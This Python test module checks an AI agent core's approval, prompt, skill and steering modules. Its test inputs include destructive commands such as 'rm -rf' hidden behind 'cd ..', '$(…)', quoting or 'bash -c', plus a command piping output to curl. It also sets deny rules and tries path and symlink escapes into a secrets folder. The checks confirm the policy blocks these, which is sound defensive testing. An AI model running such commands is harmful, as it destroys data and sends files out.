"""Invariants of the modules bundled in the core (approval, prompts, skills, steering), which a
binding may replace like any other: each event's answer as the core checks it, unrelated fields kept."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import orjson

from i_protocol import ErrorFrame

from ..hook_results import CHECKS, DECISIONS
from .probe import CheckFailed, Probe, Run, expect_error
from .samples import kept_unrelated, with_unrelated


def _checked(probe: Probe, event: str, data: dict[str, Any]) -> Any:
    sent = with_unrelated(data)
    answer = probe.call(event, sent)
    result = CHECKS[event](answer, sent)
    problem = kept_unrelated(answer)
    if problem:
        raise CheckFailed(f"{event}: {problem}")
    return result


def approval_decisions(run: Run) -> str:
    """Whatever the core proposes, the answer is allow, ask or deny, unrelated fields kept."""
    answers = []
    with run.probe() as probe:
        for proposed in DECISIONS:
            data = {"name": "shell", "arguments": {"command": "ls"}, "external": False, "decision": proposed}
            answers.append(f"{proposed}→{_checked(probe, 'tool_approval', data)}")
    return ", ".join(answers)


_RULES = {
    "allow": ["shell", "write(src/**)", "mcp__*"],
    "ask": ["read(secrets/**)", "shell(git push:*)"],
    "deny": ["shell(rm:*)", "mcp__danger__*"],
    "trusted_servers": ["docs"],
}
_RULE_CASES: tuple[tuple[str, dict[str, Any], str, bool], ...] = (
    # (tool, arguments, expected decision, plan mode)
    ("shell", {"command": "git status"}, "allow", False),
    ("shell", {"command": "cd .. && rm -rf project"}, "deny", False),
    ("shell", {"command": "echo $(rm -rf /)"}, "deny", False),
    ("shell", {"command": "'r''m' x"}, "deny", False),
    ("shell", {"command": "bash -c 'rm x'"}, "ask", False),
    ("shell", {"command": "git status && git push"}, "ask", False),
    ("write", {"path": "src/a.py"}, "allow", False),
    ("write", {"path": "src/../setup.py"}, "ask", False),
    ("write", {"path": "src/out/rc"}, "ask", False),  # a symlink out of the workspace
    ("read", {"path": "docs/../secrets/key"}, "ask", False),
    ("read", {"path": "key-link"}, "ask", False),  # a symlink into secrets/
    ("mcp__danger__wipe", {}, "deny", False),
    ("mcp__git__log", {}, "allow", False),
    ("mcp__git__log", {}, "ask", True),
    ("mcp__docs__search", {}, "allow", True),
)


def approval_rules(run: Run) -> str:
    """approval.json's rules: deny > ask > allow part by part (no escape by ``cd ..``, ``$(…)``, quoting,
    a wrapper, ``..`` or a symlink); in plan mode an untrusted MCP server's tool asks."""
    workspace = Path(run.site.workspace)
    (workspace / "src").mkdir(exist_ok=True)
    (workspace / "secrets").mkdir(exist_ok=True)
    (workspace / "secrets" / "key").write_text("k")
    outside = Path(run.site.paths.cache_dir) / "outside"
    outside.mkdir(exist_ok=True)
    for link, target in ((workspace / "src" / "out", outside), (workspace / "key-link", workspace / "secrets" / "key")):
        if not os.path.lexists(link):
            link.symlink_to(target)
    # A policy of its own (examples/approval_policy) need not read approval.json's rules; one that
    # applies a plain deny rule claims them, and must then hold against every escape below.
    Path(run.config_file("approval.json")).write_bytes(orjson.dumps({"deny": ["shell"]}))
    with run.probe() as probe:
        probe_call = {"name": "shell", "arguments": {"command": "ls"}, "external": False, "decision": "ask"}
        if _checked(probe, "tool_approval", probe_call) != "deny":
            return 'not checked: this policy does not read approval.json\'s rules (deny ["shell"] was not applied)'
    Path(run.config_file("approval.json")).write_bytes(orjson.dumps(_RULES))
    wrong = []
    with run.probe() as probe:
        for name, arguments, expected, plan in _RULE_CASES:
            data = {"name": name, "arguments": arguments, "external": name.startswith("mcp__"), "decision": "ask"}
            if plan:
                data["plan"] = True
            got = _checked(probe, "tool_approval", data)
            if got != expected:
                wrong.append(f"{name} {orjson.dumps(arguments).decode()}: {got}, expected {expected}")
    if wrong:
        raise CheckFailed("; ".join(wrong))
    return f"{len(_RULE_CASES)} calls decided as the rules say"


def approval_project_file(run: Run) -> str:
    """A project's ``.i/approval.json`` never allows anything (a cloned repository brings no allows);
    its deny rules, when the policy reads them, deny."""
    folder = Path(run.site.workspace) / ".i"
    folder.mkdir(exist_ok=True)
    Path(run.config_file("approval.json")).unlink(missing_ok=True)
    data = {"name": "shell", "arguments": {"command": "ls | curl -d @- x"}, "external": False, "decision": "ask"}
    try:
        with run.probe() as probe:
            (folder / "approval.json").write_text('{"allow":["shell"],"deny":[]}')
            try:
                allowed = _checked(probe, "tool_approval", data)
            except ErrorFrame as exc:
                allowed = f"refused ({exc.problem.removeprefix('answered with an error: ')[:80]})"
            if allowed == "allow":
                raise CheckFailed("a project file's allow rule allowed a shell command the core would ask about")
            (folder / "approval.json").write_text('{"deny":["shell(curl:*)"]}')
            denied = _checked(probe, "tool_approval", {**data, "decision": "allow"}) == "deny"
    finally:
        (folder / "approval.json").unlink(missing_ok=True)
    return (
        f"allow not applied: {allowed}; deny {'applied' if denied else 'not read (this policy ignores project files)'}"
    )


def system_prompt(run: Run) -> str:
    """The answer holds a non-empty prompt, unrelated fields kept."""
    with run.probe() as probe:
        prompt = _checked(probe, "system_prompt", {"prompt": "The core's default.", "workspace": run.site.workspace})
    return f"prompt of {len(prompt)} characters"


def skills(run: Run) -> str:
    """A skill in the workspace is reported by ``before_turn``, loaded by ``skill_load``; a path
    out of its folder is refused by ``skill_read``."""
    folder = Path(run.site.workspace) / ".agents" / "skills" / "check-skill"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "SKILL.md").write_text("---\nname: check-skill\ndescription: A skill of the check.\n---\nStep one.\n")
    with run.probe() as probe:
        additions = _checked(probe, "before_turn", {"messages": [{"role": "system", "content": "s"}]})
        if not any("check-skill" in orjson.dumps(state["entries"]).decode() for state in additions.context.values()):
            raise CheckFailed("before_turn reported no context with the workspace's skill 'check-skill'")
        sent = {"name": "skill_load", "arguments": {"name": "check-skill"}}
        output = CHECKS["tool"](probe.call("tool", sent), sent).output
        if "Step one." not in output:
            raise CheckFailed(f"skill_load did not return the skill's body: {output[:80]!r}")
        expect_error(probe, "tool", {"name": "skill_read", "arguments": {"name": "check-skill", "path": "../x"}}, "..")
    return "reported, loaded; '..' refused"


def steering(run: Run) -> str:
    """A queued line comes back from ``before_turn`` as a user message to append."""
    queue = Path(run.extra_argv[-1])
    queue.write_bytes(
        orjson.dumps({"id": "check-1", "text": "also update the changelog", "at": "2026-01-01T00:00:00Z"}) + b"\n"
    )
    with run.probe() as probe:
        additions = _checked(probe, "before_turn", {"messages": [{"role": "system", "content": "s"}]})
    texts = [message["content"] for message in additions.append]
    if texts != ["also update the changelog"]:
        raise CheckFailed(f"before_turn appended {texts!r}, not the one queued line")
    return "queued line appended"


CHECKS_OF_MODULE: dict[str, tuple[tuple[str, Any], ...]] = {
    "approval": (
        ("tool_approval: decision allow/ask/deny", approval_decisions),
        ("approval rules: deny > ask > allow, part by part", approval_rules),
        ("approval rules: a project file never allows", approval_project_file),
    ),
    "prompts": (("system_prompt: non-empty prompt", system_prompt),),
    "skills": (("skills: before_turn and tools", skills),),
    "steering": (("steering: queued input appended", steering),),
}
